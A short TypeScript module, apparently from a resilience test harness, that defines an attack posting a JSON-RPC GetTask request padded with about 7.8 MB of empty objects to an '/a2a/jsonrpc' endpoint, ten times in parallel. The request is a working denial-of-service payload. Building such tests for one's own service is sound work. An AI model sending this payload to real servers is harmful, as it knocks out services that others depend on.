import { attempt, emptyObjects, repeatInParallel, type Attack } from './attack.ts';

export const largeParameters: Attack = {
  title: 'GetTask with 7.8 MB of {} in its parameters, in ten loops',
  prepare: async (target) => {
    const id = '00000000-0000-7000-8000-000000000000';
    const head = `{"jsonrpc":"2.0","id":1,"method":"GetTask","params":{"id":"${id}","a":`;
    const body = Buffer.concat([
      Buffer.from(head),
      emptyObjects,
      Buffer.from(',"b":'),
      emptyObjects,
      Buffer.from('}}'),
    ]);
    return (signal) =>
      repeatInParallel(10, signal, () =>
        attempt(target, signal, () => target.client.post('/a2a/jsonrpc', body, signal)),
      );
  },
};
